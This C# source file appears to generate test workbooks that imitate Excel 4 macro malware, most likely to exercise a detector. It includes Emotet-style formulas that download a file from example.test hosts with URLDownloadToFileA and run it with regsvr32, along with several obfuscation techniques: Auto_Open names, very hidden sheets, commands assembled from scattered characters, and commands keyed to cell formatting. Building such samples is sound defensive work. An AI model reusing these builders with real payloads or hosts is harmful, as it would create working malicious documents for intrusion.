using System.Text;

namespace Sekisho.SampleMaker;

/// <summary>Harmless workbooks with Excel 4 macros that show the tricks attackers used; every address is under example.test.</summary>
public static class XlmSamples
{
    /// <summary>EXEC's number in Ftab.</summary>
    public const int Exec = 110;

    /// <summary>HALT's number in Ftab.</summary>
    public const int Halt = 54;

    /// <summary>The command FORMULA (Cetab 96).</summary>
    public const int Formula = 0x8060;

    /// <summary>What the workbook of the year 2022 writes into its cells, one a row.</summary>
    public static readonly IReadOnlyList<string> EmotetFormulas =
    [
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://one.example.test/wp-admin/aB3/\",\"..\\wnrul.ocx\",0,0)",
        "=IF(HRHRE1<0, CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"ht\"&\"tp\"&\"s://t\"&\"wo.example.test/css/\",\"..\\wnrul.ocx\",0,0))",
        "=IF(HRHRE2<0, CLOSE(0),)",
        "=EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\wnrul.ocx\")",
        "=RETURN()",
    ];

    /// <summary>A macro that says hello and stops, started by a name.</summary>
    /// <param name="name">The name that points at it; the default is the built-in Auto_Open.</param>
    /// <param name="state">0 visible, 1 hidden, 2 very hidden.</param>
    public static byte[] Hello(string name = "\u0001", int state = 0)
    {
        var book = new XlmWorkbookWriter();
        book.AddSheet("Sheet1", isMacro: false);
        var macro = book.AddSheet("Macro1", isMacro: true, state);
        return book.Formula(macro, 0, 0, new XlmFormulaWriter().Text("harmless").Call(1, 0x8076))
            .Formula(macro, 1, 0, new XlmFormulaWriter().Call(0, Halt)).Name(name, macro, 0, 0).ToArray();
    }

    /// <summary>A worksheet only.</summary>
    public static byte[] Plain()
    {
        var book = new XlmWorkbookWriter();
        return book.Text(book.AddSheet("Sheet1", isMacro: false), 0, 0, "=EXEC(\"calc\")").ToArray();
    }

    /// <summary>The builder of March to November 2022: formulas put together from single characters that lie scattered over three hidden sheets.</summary>
    public static byte[] Emotet()
    {
        var book = new XlmWorkbookWriter();
        book.AddSheet("Sheet", isMacro: false);
        var stores = new[] { book.AddSheet("Vv1", isMacro: false, 1), book.AddSheet("Vv2", isMacro: false, 1), book.AddSheet("Vv3", isMacro: false, 1) };
        var macro = book.AddSheet("EWDFFEFAD", isMacro: true, 1);
        var places = new Dictionary<char, (int Sheet, int Row, int Column)>();
        foreach (var c in EmotetFormulas.SelectMany(f => f).Distinct())
        {
            var at = places.Count;
            places[c] = (stores[at % 3], 3 + (at * 7 % 41), 2 + (at * 5 % 17));
            while (places.Count(p => p.Value == places[c]) > 1)
            {
                places[c] = places[c] with { Row = places[c].Row + 41 };
            }

            book.Text(places[c].Sheet, places[c].Row, places[c].Column, c.ToString());
        }

        for (var i = 0; i < EmotetFormulas.Count; i++)
        {
            var formula = new XlmFormulaWriter();
            for (var at = 0; at < EmotetFormulas[i].Length; at++)
            {
                var place = places[EmotetFormulas[i][at]];
                formula.Cell(place.Sheet, place.Row, place.Column);
                if (at > 0)
                {
                    formula.Operator(0x08);
                }
            }

            book.Formula(macro, 2 + i, 5, formula.Cell(11 + i, 5).Call(2, Formula));
        }

        return book.Name("\u0001", macro, 2, 5).Name("HRHRE1", macro, 11, 5).Name("HRHRE2", macro, 12, 5).ToArray();
    }

    /// <summary>An Office Open XML workbook with a macro sheet.</summary>
    /// <param name="formulas">Its formulas, from A1 down.</param>
    /// <param name="state">Such as <c>veryHidden</c>.</param>
    public static byte[] Package(IReadOnlyList<string> formulas, string state = "visible")
    {
        var rows = string.Concat(formulas.Select((f, i) => $"<row r=\"{i + 1}\"><c r=\"A{i + 1}\"><f>{Escape(f)}</f></c></row>"));
        return Zip("xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.macrosheet+xml",
            Xml("<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
                + $"<sheet name=\"Macro1\" sheetId=\"1\" state=\"{state}\" r:id=\"rId1\"/><sheet name=\"Data\" sheetId=\"2\" r:id=\"rId2\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>"),
            Xml($"<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>{rows}</sheetData></xm:macrosheet>"),
            Xml("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"3\"><c r=\"B3\" t=\"s\"><v>1</v></c></row></sheetData></worksheet>"),
            Xml("<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>x</t></si><si><r><t>calc</t></r><r><t>.exe</t></r><rPh sb=\"0\" eb=\"1\"><t>カルク</t></rPh></si></sst>"));
    }

    /// <summary>A macro whose command is put together from how an empty cell is formatted: B1's row height, font size, colours and font are its key.</summary>
    public static byte[] KeyedByFormat()
    {
        const int GetCell = 185, Char = 111;
        var book = new XlmWorkbookWriter().Format("Arial", 10, 0x7FFF, 9).Format("calc.exe", 17.5, 12, 46);
        var macro = book.AddSheet("M", isMacro: true);
        book.Height(macro, 0, 33).Blank(macro, 0, 1, 1);
        XlmFormulaWriter Ask(XlmFormulaWriter to, int question) => to.Number(question).Cell(0, 1).Call(2, GetCell);
        var key = Ask(new XlmFormulaWriter(), 17).Fixed(Char);
        foreach (var question in new[] { 19, 24, 38, 18 })
        {
            Ask(key, question).Operator(0x08);
        }

        return book.Formula(macro, 0, 0, key.Call(1, Exec)).Formula(macro, 1, 0, new XlmFormulaWriter().Call(0, Halt)).Name("\u0001", macro, 0, 0).ToArray();
    }

    /// <summary>A binary workbook (MS-XLSB) whose macro runs a program.</summary>
    public static byte[] BinaryPackage()
    {
        var name = Record(39, w =>
        {
            w.Write(0x20);
            w.Write((byte)0);
            w.Write(-1);
            Wide(w, "_xlnm.Auto_Open");
            Tokens(w, new XlmFormulaWriter(isBinaryWorkbook: true).Cell(0, 0, 0));
        });
        var book = Record(156, w => { w.Write(2); w.Write(1); Wide(w, "rId1"); Wide(w, "Macro1"); })
            .Concat(Record(156, w => { w.Write(0); w.Write(2); Wide(w, "rId2"); Wide(w, "Data"); }))
            .Concat(Record(362, w => { w.Write(2); w.Write(0); w.Write(0); w.Write(0); w.Write(0); w.Write(1); w.Write(1); })).Concat(name);
        var formula = new XlmFormulaWriter(isBinaryWorkbook: true).Cell(1, 2, 1).Text(" /x").Operator(0x08).Call(1, Exec);
        var macro = Record(0, w => w.Write(0)).Concat(Record(10, w => { w.Write(0); w.Write(0); w.Write((byte)0); w.Write((ushort)0); Tokens(w, formula); }))
            .Concat(Record(0, w => w.Write(1))).Concat(Record(10, w => { w.Write(0); w.Write(0); w.Write((byte)0); w.Write((ushort)0); Tokens(w, new XlmFormulaWriter(true).Call(0, Halt)); }));
        var data = Record(0, w => w.Write(2)).Concat(Record(7, w => { w.Write(1); w.Write(0); w.Write(0); }));
        var strings = Record(19, w => { w.Write((byte)0); Wide(w, "calc.exe"); });
        return Zip("bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "application/vnd.ms-excel.macrosheet", [.. book], [.. macro], [.. data], strings);
    }

    private static byte[] Zip(string extension, string mainType, string macroType, byte[] book, byte[] macro, byte[] data, byte[] strings)
    {
        const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        return ZipWriter.Plain(
            ("[Content_Types].xml", Xml($"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/xl/workbook.{extension}\" ContentType=\"{mainType}\"/><Override PartName=\"/xl/macrosheets/sheet1.{extension}\" ContentType=\"{macroType}\"/></Types>")),
            ("_rels/.rels", Xml($"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{Office}/officeDocument\" Target=\"xl/workbook.{extension}\"/></Relationships>")),
            ($"xl/workbook.{extension}", book),
            ($"xl/_rels/workbook.{extension}.rels", Xml("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + $"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.{extension}\"/>"
                + $"<Relationship Id=\"rId2\" Type=\"{Office}/worksheet\" Target=\"/xl/worksheets/sheet1.{extension}\"/><Relationship Id=\"rId3\" Type=\"{Office}/sharedStrings\" Target=\"sharedStrings.{extension}\"/></Relationships>")),
            ($"xl/macrosheets/sheet1.{extension}", macro),
            ($"xl/worksheets/sheet1.{extension}", data),
            ($"xl/sharedStrings.{extension}", strings));
    }

    private static string Escape(string text) => text.Replace("&", "&amp;").Replace("<", "&lt;").Replace("\"", "&quot;");

    private static byte[] Xml(string text) => Encoding.UTF8.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + text);

    private static byte[] Record(int id, Action<BinaryWriter> write)
    {
        using var body = new MemoryStream();
        using var writer = new BinaryWriter(body);
        write(writer);
        writer.Flush();
        var length = (int)body.Length;
        byte[] head = id < 0x80 ? [(byte)id] : [(byte)((id & 0x7F) | 0x80), (byte)(id >> 7)];
        return [.. head, (byte)((length & 0x7F) | 0x80), (byte)(length >> 7), .. body.ToArray()];
    }

    private static void Wide(BinaryWriter w, string text)
    {
        w.Write(text.Length);
        w.Write(Encoding.Unicode.GetBytes(text));
    }

    private static void Tokens(BinaryWriter w, XlmFormulaWriter formula)
    {
        var tokens = formula.ToArray();
        w.Write(tokens.Length);
        w.Write(tokens);
        w.Write(0);
    }
}
